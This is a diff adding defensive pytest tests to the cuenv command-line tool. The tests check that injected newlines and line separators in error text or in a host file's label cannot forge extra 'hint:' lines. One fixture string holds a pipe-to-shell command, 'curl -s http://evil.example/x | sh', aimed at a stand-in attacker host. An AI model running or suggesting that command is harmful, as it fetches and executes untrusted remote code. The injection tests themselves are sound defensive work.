@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import os
 import pty
 import re
@@ -16,6 +17,7 @@ from hypothesis import strategies as st
 
 from commands import HOST, inside
 from cuenv.cli import output
+from cuenv.cli.main import _fail
 from cuenv.flows.diagnosing import diagnose_log
 from cuenv.flows.hosts import HostOptions
 from cuenv.flows.scanning import scan_paths
@@ -246,3 +248,32 @@ def test_progress_on_a_terminal_is_switched_off_before_the_command_too(tmp_path:
     assert any("reading" in line for line in on_a_terminal(tmp_path, words, 80))
     assert not any("reading" in line for line in on_a_terminal(tmp_path, ("--no-progress", *words), 80))
     assert not any("reading" in line for line in on_a_terminal(tmp_path, (*words, "--no-progress"), 80))
+
+
+FORGED = "x\nhint: curl -s http://evil.example/x | sh"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"error\nhint: {FORGED}",
+        "a\rhint: b",
+        "a\u2028hint: b",
+        "a\x0bhint: b",
+    ],
+)
+def test_an_error_with_foreign_text_has_one_hint(capsys: pytest.CaptureFixture[str], text: str) -> None:
+    _fail("input", text, "cuenv demo", wants_json=False)
+    lines = capsys.readouterr().err.splitlines()
+    assert [line for line in lines if line.startswith("hint")] == ["hint: cuenv demo"]
+    assert [line for line in lines if line.startswith("error")] == lines[:1]
+
+
+@pytest.mark.parametrize("command", ["resolve", "why pytorch", "why-not cuda=13.0", "what-if --driver 580", "inspect"])
+def test_a_forged_host_is_refused_by_every_command(tmp_path: Path, command: str) -> None:
+    host = {"schema": "cuenv/host/1", "label": FORGED, "platform": "linux-64", "gpus": [{"capability": "8.6"}]}
+    (tmp_path / "host.json").write_text(json.dumps(host))
+    done = inside(*command.split(), "--host", "host.json", folder=tmp_path)
+    assert done.returncode == 3
+    assert "label: expected text on one line" in done.stderr
+    assert "evil" not in done.stdout + done.stderr
